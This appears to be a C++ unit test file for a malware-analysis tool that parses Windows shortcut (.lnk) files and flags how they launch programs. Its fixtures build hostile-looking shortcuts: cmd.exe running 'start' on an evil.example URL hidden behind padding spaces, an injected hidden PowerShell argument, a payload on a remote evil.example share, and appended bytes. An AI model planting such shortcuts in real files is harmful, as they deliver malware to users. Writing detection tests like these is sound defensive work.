#include "analyzer/documents/shortcut_file.h"

#include <catch2/catch.hpp>

#include "analyzer/documents/inspect_documents.h"
#include "tests/support/ole_writer.h"

using namespace secondlook;
using test::in_utf16;
using test::little_endian;

namespace {

struct Shortcut {
  std::string local_path = "", arguments = "", variables = "", share = "", behind = "";
};

std::string counted(const std::string& text) {
  return little_endian(text.size(), 2) + in_utf16(text);
}

std::string info_of(const Shortcut& shortcut) {
  std::string network;
  if (!shortcut.share.empty())
    network = little_endian(20 + shortcut.share.size() + 1, 4) + little_endian(0, 4) +
              little_endian(20, 4) + std::string(8, '\0') + shortcut.share + '\0';
  const std::size_t path_at = 28 + network.size();
  const std::string path = shortcut.local_path + '\0';
  const bool is_shared = !network.empty();
  return little_endian(path_at + path.size() + 1, 4) + little_endian(28, 4) +
         little_endian(is_shared ? 2 : 1, 4) + little_endian(0, 4) + little_endian(path_at, 4) +
         little_endian(28, 4) + little_endian(is_shared ? path_at : path_at + path.size(), 4) +
         network + path + '\0';
}

// MS-SHLLINK: header, LinkInfo, a description, arguments, a block with variables, the end.
std::string make_shortcut(const Shortcut& shortcut) {
  const bool has_info = !shortcut.local_path.empty();
  std::string file =
      little_endian(0x4C, 4) + std::string("\x01\x14\x02\0\0\0\0\0\xC0\0\0\0\0\0\0\x46", 16) +
      little_endian(0x4U | 0x20U | 0x80U | (has_info ? 2U : 0U), 4) + std::string(52, '\0');
  if (has_info) file += info_of(shortcut);
  file += counted("A document") + counted(shortcut.arguments);
  if (!shortcut.variables.empty()) {
    std::string wide = in_utf16(shortcut.variables);
    wide.resize(520, '\0');
    file += little_endian(0x314, 4) + little_endian(0xA0000001, 4) + std::string(260, '\0') + wide;
  }
  return file + little_endian(0, 4) + shortcut.behind;
}

DocumentFindings inspect(const std::string& file) {
  return inspect_document(file, "application/x-ms-shortcut", "a.lnk");
}

std::string detail_of(const DocumentFindings& findings, std::string_view name) {
  for (const DocumentFact& fact : findings.facts())
    if (fact.name == name) return fact.detail;
  return "no such fact";
}

}  // namespace

TEST_CASE("a shortcut shows what it starts, padding taken out") {
  const auto found = inspect(make_shortcut(
      {.local_path = "C:\\Windows\\System32\\cmd.exe",
       .arguments = std::string(300, ' ') + "/c start https://evil.example/a \"b\""}));
  CHECK(detail_of(found, "shortcut") ==
        "C:\\Windows\\System32\\cmd.exe /c start https://evil.example/a \"b\"");
  CHECK(found.holds("shortcut_runs"));
  CHECK(found.urls() == std::vector<std::string>{"https://evil.example/a"});
  CHECK_FALSE(found.holds("shortcut_elsewhere"));
  CHECK_FALSE(found.holds("shortcut_carries"));
  CHECK(found.unseen().empty());
}

TEST_CASE("a target that stands in variables, or runs by its arguments") {
  CHECK(inspect(make_shortcut({.variables = "%ComSpec%"})).holds("shortcut_runs"));
  CHECK(inspect(make_shortcut({.local_path = "C:\\x.exe", .arguments = "& PowerShell -w hidden"}))
            .holds("shortcut_runs"));
  CHECK_FALSE(
      inspect(make_shortcut({.local_path = "C:\\Data\\cmdline.docx"})).holds("shortcut_runs"));
}

TEST_CASE("a target on another machine") {
  const auto found =
      inspect(make_shortcut({.local_path = "pay\\run.exe", .share = "\\\\evil.example\\dav"}));
  CHECK(detail_of(found, "shortcut_elsewhere") == "\\\\evil.example\\dav\\pay\\run.exe");
}

TEST_CASE("bytes behind the end are what a shortcut carries") {
  const auto found =
      inspect(make_shortcut({.local_path = "C:\\a.exe", .behind = std::string(5000, 'x')}));
  CHECK(detail_of(found, "shortcut_carries") == "5000 bytes");
}

TEST_CASE("a shortcut cut anywhere is said to be damaged, and does no harm") {
  const std::string file = make_shortcut({.local_path = "C:\\a.exe", .arguments = "x"});
  for (std::size_t size = 0; size + 4 < file.size(); ++size)
    CHECK(inspect(file.substr(0, size)).unseen() == std::vector<std::string>{"damaged"});
  CHECK(inspect(file).unseen().empty());
}
